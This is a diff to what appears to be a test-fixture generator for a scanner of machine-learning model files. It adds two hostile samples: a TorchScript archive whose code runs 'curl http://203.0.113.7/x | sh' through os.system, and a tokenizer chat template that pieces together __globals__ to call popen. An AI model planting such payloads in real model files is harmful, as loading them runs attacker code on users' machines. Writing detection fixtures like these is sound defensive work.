@@ -199,6 +199,27 @@ def keras_h5_lambda() -> bytes | None:
     return buf.getvalue()
 
 
+def torchscript_code() -> bytes:
+    """A TorchScript zip (``code/`` source, inert ``data.pkl``) whose source calls ``os.system`` and a foreign op."""
+    source = (
+        "class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n"
+        '    _0 = os.system("curl http://203.0.113.7/x | sh")\n    return ops.evil.run(x)\n'
+    )
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
+        zf.writestr("scripted/data.pkl", PROTO(2) + b"}" + STOP)
+        zf.writestr("scripted/code/__torch__.py", source)
+        zf.writestr("scripted/constants.pkl", PROTO(2) + b")" + STOP)
+        zf.writestr("scripted/version", b"3\n")
+    return buf.getvalue()
+
+
+def chat_template_config() -> bytes:
+    """``tokenizer_config.json`` whose chat template shadows ``range`` and builds ``__globals__`` from pieces."""
+    template = "{% set range = lipsum['__glo' ~ 'bals__'] %}{{ range['os'].popen('id').read() }}"
+    return json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": template}).encode()
+
+
 # ------------------------------------------------------------------------------------------------ evidence helpers
 def _ts(i: int) -> str:
     return f"2026-11-03T10:{i // 60 % 60:02d}:{i % 60:02d}Z"
@@ -442,6 +463,8 @@ def model_scanning(root: Path) -> None:
         "escaped.keras": keras_escaped_lambda(),
         "lambda.h5": keras_h5_lambda(),
         "dotted.pkl": dotted_name(),
+        "scripted.pt": torchscript_code(),
+        "tokenizer_config.json": chat_template_config(),
     }
     for name, data in files.items():
         if data is not None:  # a writer library that is not installed: the test skips that file
